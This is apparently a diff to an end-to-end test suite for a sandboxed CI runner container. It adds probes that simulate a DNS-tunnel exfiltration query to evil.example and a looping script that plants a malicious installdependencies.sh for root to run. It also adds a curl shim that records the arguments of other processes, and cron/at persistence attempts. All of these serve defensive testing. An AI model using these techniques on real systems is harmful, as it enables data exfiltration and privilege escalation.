@@ -38,12 +38,13 @@ const FILES = join(PROJECT_ROOT, "infra", "runners", "files");
 const LXCPATH = "/var/tmp/cco-e2e-lxc";
 const NAME = "cco-e2e-runner";
 const IDMAP = "root:100000:65536";
-/** Test tools in the image, beside what provision.sh installs: dig, auditctl. */
-const TEST_PACKAGES = ["bind9-dnsutils", "auditd"];
+/** Test tools in the image, beside what provision.sh installs: dig, auditctl, and cron and at (a job must not be able to use them). */
+const TEST_PACKAGES = ["bind9-dnsutils", "auditd", "cron", "at"];
 /** Reboots before the probes (3 x about 3 s). */
 const REBOOTS = 3;
 const INGEST_TOKEN = "e2e-ingest-token-0123456789abcdef";
-const SECRETS = `REGISTRATION_TOKEN=E2E-REGISTRATION-TOKEN\nINGEST_TOKEN=${INGEST_TOKEN}\n`;
+const REGISTRATION_TOKEN = "E2E-REGISTRATION-TOKEN";
+const SECRETS = `REGISTRATION_TOKEN=${REGISTRATION_TOKEN}\nINGEST_TOKEN=${INGEST_TOKEN}\n`;
 /** Lines provision.sh logs only when it changes something. */
 const CHANGE_WORDS = /\b(installed|created|fixed|enabled|started|restarted|registered|unpacked|downloading|removed|added|installing)\b/;
 
@@ -99,6 +100,27 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
       .split("\n")
       .filter(Boolean)
       .map((l) => JSON.parse(l));
+
+  /** The queries the upstream DNS server received from the container (it logs every query). */
+  const upstreamQueries = (): Array<{ type: string; name: string }> =>
+    readFileSync(join(tmp, "upstream-dns.log"), "utf8")
+      .split("\n")
+      .map((l) => /query\[(\w+)\] (\S+) from (\S+)/.exec(l))
+      .filter((m): m is RegExpExecArray => m !== null && m[3] === NET.container)
+      .map((m) => ({ type: m[1]!, name: m[2]! }));
+  /** Whether NAME is an allowed domain or one of its subdomains (the rendered EGRESS_DOMAINS). */
+  const allowedName = (name: string) =>
+    env.get("EGRESS_DOMAINS")!.split(/\s+/).filter(Boolean).some((d) => name === d || name.endsWith(`.${d}`));
+  /** Probes that no query for a name outside the allowlist ever reached the upstream DNS server. */
+  const probeUpstreamQueries = (g: string) => {
+    const queries = upstreamQueries();
+    const outside = queries.filter((q) => !allowedName(q.name));
+    probes.add(g, "the upstream DNS server received no query for a name outside the allowlist",
+      `0 of ${queries.length} queries from the container`, outside.length ? outside.map((q) => `${q.type} ${q.name}`).join(", ") : `0 of ${queries.length}`,
+      outside.length === 0);
+    const seen = queries.some((q) => q.name === "github.com");
+    probes.add(g, "(and its query log works: it has github.com from the container)", "github.com queried", seen ? "github.com queried" : "not in the log", seen);
+  };
 
   /** The events the stats service appended to its files. */
   const storedEvents = (): Array<Record<string, unknown>> =>
@@ -384,6 +406,8 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     const args = ct.exec("cat /home/runner/actions-runner/.stub-config-args").stdout.split("\n");
     probes.add(g, "config.sh ran as runner with name, labels, --disableupdate", `--name runner-01 --labels ${env.get("RUNNER_LABELS")}`,
       args.join(" "), args.join(" ").includes(`--name runner-01`) && args.join(" ").includes(`--labels ${env.get("RUNNER_LABELS")}`) && args.includes("--disableupdate"));
+    probes.add(g, "the registration token is not on config.sh's command line (the stub took it from ACTIONS_RUNNER_INPUT_TOKEN)",
+      "no --token, no token in argv", args.join(" "), !args.includes("--token") && !args.join(" ").includes(REGISTRATION_TOKEN));
     expectGroup(g);
   });
 
@@ -461,10 +485,13 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     probes.add(g, "the stats service endpoint", "answers", describeRun(r), r.status === 0 && r.stdout.includes("status"));
     const before = internetRequests().length;
     for (const name of ["evil.example", "notgithub.com", "github.com.evil.example"]) {
-      r = asRunner(`getent ahostsv4 ${name} | head -n 1 | cut -d' ' -f1; curl -sS --max-time 4 https://${name}/`);
-      probes.add(g, `HTTPS to ${name} (resolves, not allowed)`, `resolves to ${NET.records[name]}, connection fails`, describeRun(r),
-        r.status !== 0 && r.stdout.startsWith(NET.records[name]!));
+      r = asRunner(`dig +time=2 +tries=1 ${name} | grep -o 'status: [A-Z]*'; curl -sS --max-time 4 https://${name}/`);
+      probes.add(g, `HTTPS to ${name} (not allowed)`, "NXDOMAIN from dnsmasq, connection fails", describeRun(r),
+        r.status !== 0 && r.stdout.startsWith("status: NXDOMAIN") && !r.stdout.includes(NET.records[name]!));
     }
+    // What a DNS tunnel sends: data in the names of a domain it controls, in TXT (or any other) queries.
+    r = asRunner("dig +time=2 +tries=1 TXT c2VjcmV0LWRhdGE.evil.example | grep -o 'status: [A-Z]*'; dig +short +time=2 +tries=1 -x 198.51.100.66");
+    probes.add(g, "DNS tunnel-like TXT query and a reverse lookup", "NXDOMAIN, no answer", describeRun(r), r.stdout.trim() === "status: NXDOMAIN");
     r = asRunner(`curl -ksS --max-time 4 https://${NET.neverResolved}/`);
     probes.add(g, "HTTPS to a raw IP never resolved", "fails", describeRun(r), r.status !== 0);
     r = asRunner(`curl -ksS --max-time 4 https://${NET.records["evil.example"]}/`);
@@ -479,6 +506,7 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     probes.add(g, "DNS to the upstream directly (not as dnsmasq)", "no answer", describeRun(r), !r.stdout.includes(NET.records["github.com"]!));
     r = asRunner(`dig +short +tcp +time=2 +tries=1 @${NET.dns} github.com`);
     probes.add(g, "DNS over TCP to the upstream directly", "no answer", describeRun(r), !r.stdout.includes(NET.records["github.com"]!));
+    probeUpstreamQueries(g);
     r = asRunner("dig +short +time=2 +tries=1 AAAA github.com");
     probes.add(g, "AAAA answers filtered by dnsmasq", "(empty)", describeRun(r), r.status === 0 && r.stdout.trim() === "");
     r = asRunner(`curl -gksS --max-time 4 https://[${NET.v6}]/`);
@@ -571,8 +599,18 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     r = ct.exec("echo forged >> /var/spool/cco/events.jsonl && echo appended", { user: "runner" });
     probes.add(g, "runner may append to the spool (the hooks run as runner)", "appends", describeRun(r), r.status === 0);
 
+    // Every process's command line is public in /proc: a curl first on the unit's PATH records the forwarder's.
+    r = ct.exec("cat /proc/1/cmdline | tr '\\0' ' '", { user: "runner" });
+    probes.add(g, "runner can read the command line of root's processes (/proc/1/cmdline)", "readable: argv is public", describeRun(r),
+      r.status === 0 && r.stdout.trim() !== "");
+    ct.must(["cat > /usr/local/bin/curl <<'SHIM'", "#!/bin/sh", 'printf \'%s\\n\' "$@" >> /root/curl-argv', 'exec /usr/bin/curl "$@"', "SHIM",
+      "chmod 755 /usr/local/bin/curl; rm -f /root/curl-argv"].join("\n"));
     r = ct.exec("systemctl start cco-forwarder.service; systemctl show -P Result cco-forwarder.service", { timeoutMs: 60_000 });
     probes.add(g, "cco-forwarder.service run (as its timer does)", "success (the forged line skipped)", describeRun(r), r.stdout.trim() === "success");
+    const curlArgv = ct.exec("cat /root/curl-argv; rm -f /usr/local/bin/curl /root/curl-argv").stdout;
+    probes.add(g, "the forwarder's curl command lines carry no ingest token (the header comes from a 0600 file)",
+      "-H @file, no token", curlArgv.split("\n").filter((a) => a.startsWith("@") || a.startsWith("http")).join(" "),
+      curlArgv.includes("\n-H\n@/") && curlArgv.includes("/api/events") && !curlArgv.includes(INGEST_TOKEN) && !curlArgv.includes("Bearer"));
     const stored = storedEvents();
     const got = stored.filter((e) => e.runId === 987654).map((e) => `${e.type}${e.result ? `(${e.result})` : ""}`);
     probes.add(g, "the stats service stored both events with the audit fields", "job_started, job_completed(failed)", got.join(", "),
@@ -655,6 +693,97 @@ describe("runners: LXC end-to-end (unprivileged container, systemd, real provisi
     const diff = snapAfter.split("\n").filter((l) => !before.split("\n").includes(l));
     probes.add(g, "files, owners, modes, checksums, rules, sets, unit states and PIDs unchanged", "unchanged",
       diff.length ? `changed: ${diff.join(" | ")}` : "unchanged", diff.length === 0);
+    expectGroup(g);
+  });
+
+  it("a job cannot reach root through provisioning, outlive the runner, or schedule itself with cron or at", function () {
+    const g = "jobs vs root (as runner)";
+    const RD = "/home/runner/actions-runner";
+    let r = ct.exec("stat -c '%n %U:%G %a' /var/lib/cco /var/lib/cco/runner-version /var/lib/cco/runner-id");
+    probes.add(g, "the version marker and the runner id are root's, in a 0700 directory", "root:root 700, 644, 644", describeRun(r),
+      r.stdout.trim() === "/var/lib/cco root:root 700\n/var/lib/cco/runner-version root:root 644\n/var/lib/cco/runner-id root:root 644");
+    for (const f of ["runner-version", "runner-id"]) {
+      r = ct.exec(`echo 9999 > /var/lib/cco/${f}`, { user: "runner" });
+      probes.add(g, `write /var/lib/cco/${f}`, "refused", describeRun(r), r.status !== 0);
+    }
+    // The job points .runner at another runner's id, and plants an installdependencies.sh that
+    // root would run; a process outside the runner's unit keeps planting it while provisioning unpacks.
+    ct.must(`jq '.agentId = 9999' ${RD}/.runner > ${RD}/.runner.new && mv ${RD}/.runner.new ${RD}/.runner`, { user: "runner" });
+    ct.must(["cat > /home/runner/evil.sh <<'EVIL'", "#!/bin/sh", "touch /var/tmp/planted-script-ran-as-$(id -u)", "EVIL", "chmod 755 /home/runner/evil.sh",
+      `cp /home/runner/evil.sh ${RD}/bin/installdependencies.sh`].join("\n"), { user: "runner" });
+    // (It waits for the unpacking to replace the planted copy, then plants it again at once.)
+    ct.must(`nohup bash -c 'while :; do grep -q planted-script ${RD}/bin/installdependencies.sh 2> /dev/null || ` +
+      `{ cp /home/runner/evil.sh ${RD}/bin/.plant && mv -f ${RD}/bin/.plant ${RD}/bin/installdependencies.sh; }; done' ` +
+      "> /dev/null 2>&1 < /dev/null & echo $! > /home/runner/planter.pid", { user: "runner" });
+    // A new runner version to unpack (the marker gone, here or where older provisionings kept it), as an upgrade would.
+    ct.must(`rm -f /var/lib/cco/runner-version ${RD}/.cco-version /var/log/stub-installdependencies.log /var/tmp/planted-script-ran-as-*`);
+    const p = provision(3);
+    probes.add(g, "provision.sh re-unpacks the runner (marker removed)", "exit 0, unpacked", describeRun({ ...p, stdout: "", stderr: p.stderr.split("\n").filter((l) => l.includes("unpacked")).join(" ") }),
+      p.status === 0 && p.stderr.includes("unpacked runner"));
+    const planted = ct.exec(`kill $(cat /home/runner/planter.pid); grep -c planted-script ${RD}/bin/installdependencies.sh`, { user: "runner" }).stdout.trim();
+    r = ct.exec("ls /var/tmp/planted-script-ran-as-* 2>&1");
+    probes.add(g, "a planted installdependencies.sh (planted again whenever unpacking replaced it) never ran", "not run; planted copy present",
+      `${describeRun(r)}; planted copy present: ${planted === "1"}`, r.status !== 0 && planted === "1");
+    r = ct.exec("cat /var/log/stub-installdependencies.log");
+    probes.add(g, "the tarball's installdependencies.sh ran as root from a root-owned temp dir", "uid 0, /tmp/tmp.*/bin/installdependencies.sh",
+      describeRun(r), /^0 \/tmp\/tmp\.\w+\/bin\/installdependencies\.sh$/.test(r.stdout.trim()));
+    probes.add(g, "the runner id printed for deregistration is the one recorded at registration", "runner-id=4242 (not the job's 9999)", p.stdout,
+      /^runner-id=4242$/m.test(p.stdout));
+    ct.must(`jq '.agentId = 4242' ${RD}/.runner > ${RD}/.runner.new && mv ${RD}/.runner.new ${RD}/.runner`, { user: "runner" });
+
+    // A process a job leaves behind in the runner's cgroup (as a job's background process is).
+    r = ct.exec([
+      "setpriv --reuid=runner --regid=runner --init-groups sleep 4343 < /dev/null > /dev/null 2>&1 & pid=$!",
+      "cg=$(systemctl show -P ControlGroup actions-runner.service)",
+      "for d in /sys/fs/cgroup$cg /sys/fs/cgroup/systemd$cg /sys/fs/cgroup/unified$cg; do [ -f $d/cgroup.procs ] && echo $pid 2> /dev/null > $d/cgroup.procs; done",
+      "echo $pid > /root/leftover.pid; grep -c actions-runner /proc/$pid/cgroup",
+    ].join("\n"));
+    probes.add(g, "a background process as runner in the runner's cgroup", "in actions-runner.service's cgroup", describeRun(r),
+      r.status === 0 && Number(r.stdout.trim()) >= 1);
+    r = ct.exec("systemctl stop actions-runner.service; sleep 0.5; ps -o user=,args= -p $(cat /root/leftover.pid) || echo gone; systemctl show -P KillMode actions-runner.service");
+    probes.add(g, "systemctl stop actions-runner leaves nothing of it running (KillMode=mixed)", "gone, mixed", describeRun(r),
+      r.stdout.trim() === "gone\nmixed");
+    ct.must("systemctl start actions-runner.service");
+
+    r = ct.exec("crontab -l", { user: "runner" });
+    probes.add(g, "crontab -l", "refused: not allowed", describeRun(r), r.status !== 0 && r.stderr.includes("not allowed"));
+    r = ct.exec("echo '* * * * * touch /tmp/cron-ran' | crontab -", { user: "runner" });
+    probes.add(g, "crontab - (install one)", "refused: not allowed", describeRun(r), r.status !== 0 && r.stderr.includes("not allowed"));
+    r = ct.exec("echo 'touch /tmp/at-ran' | at now + 1 minute", { user: "runner" });
+    probes.add(g, "at now + 1 minute", "refused: no permission", describeRun(r), r.status !== 0 && r.stderr.includes("permission"));
+    r = ct.exec("crontab -l 2>&1; echo 'touch /tmp/at-ran' | at now + 1 hour 2>&1 && atrm $(atq | awk '{print $1}')");
+    probes.add(g, "(root may still use them)", "no crontab for root, job queued", describeRun(r), r.stdout.includes("no crontab for root") && r.status === 0);
+    expectGroup(g);
+  });
+
+  it("an egress change is applied in place: the runner keeps running, a removed domain stops connecting", function () {
+    const g = "egress change (re-provisioning)";
+    const asRunner = (script: string) => ct.exec(script, { user: "runner" });
+    const dropped = "actions.githubusercontent.com";
+    const droppedName = "x.actions.githubusercontent.com";
+    let r = asRunner(`curl -sS --max-time 5 https://${droppedName}/ && curl -sS --max-time 5 https://github.com/`);
+    probes.add(g, `before: HTTPS to ${droppedName} and github.com`, "both connect", describeRun(r), r.status === 0);
+    const pid = () => ct.must("systemctl show -P MainPID actions-runner.service").trim();
+    const before = pid();
+    // The parameters as the Pulumi program would render them with the domain removed from egressDomains.
+    const remote = `/root/${bundleDir.split("/").pop()!}/runner.env`;
+    const params = ct.must(`cat ${remote}`).split("\n").map((l) =>
+      l.startsWith("EGRESS_DOMAINS=") ? `EGRESS_DOMAINS=${l.slice("EGRESS_DOMAINS=".length).split(" ").filter((d) => d !== dropped).join(" ")}` : l);
+    ct.must(`cat > ${remote}`, { input: params.join("\n") });
+    const p = provision(4);
+    probes.add(g, "provision.sh with EGRESS_DOMAINS without " + dropped, "exit 0", `exit ${p.status}`, p.status === 0);
+    const after = pid();
+    probes.add(g, "the runner's MainPID is unchanged (its jobs keep running)", `${before}`, `${before} -> ${after}`, after === before && before !== "0");
+    r = ct.exec(`grep -c '/${dropped}/' /etc/dnsmasq.d/cco.conf; ipset test cco-allow ${NET.records[droppedName]} 2>&1`);
+    probes.add(g, "dnsmasq no longer forwards the domain, its address left the set", "0, not in set", describeRun(r),
+      r.stdout.startsWith("0\n") && r.stdout.includes("is NOT in set"));
+    r = asRunner(`curl -sS --max-time 4 https://${droppedName}/`);
+    probes.add(g, `HTTPS to ${droppedName}`, "fails (NXDOMAIN)", describeRun(r), r.status !== 0);
+    r = asRunner(`curl -sS --max-time 4 --resolve ${droppedName}:443:${NET.records[droppedName]} https://${droppedName}/`);
+    probes.add(g, `HTTPS to ${droppedName}'s address (resolved before the change)`, "fails", describeRun(r), r.status !== 0);
+    r = asRunner("curl -sS --max-time 5 https://github.com/");
+    probes.add(g, "HTTPS to github.com", "ok github.com", describeRun(r), r.status === 0 && r.stdout.trim() === "ok github.com");
+    probeUpstreamQueries(g);
     expectGroup(g);
   });
 });
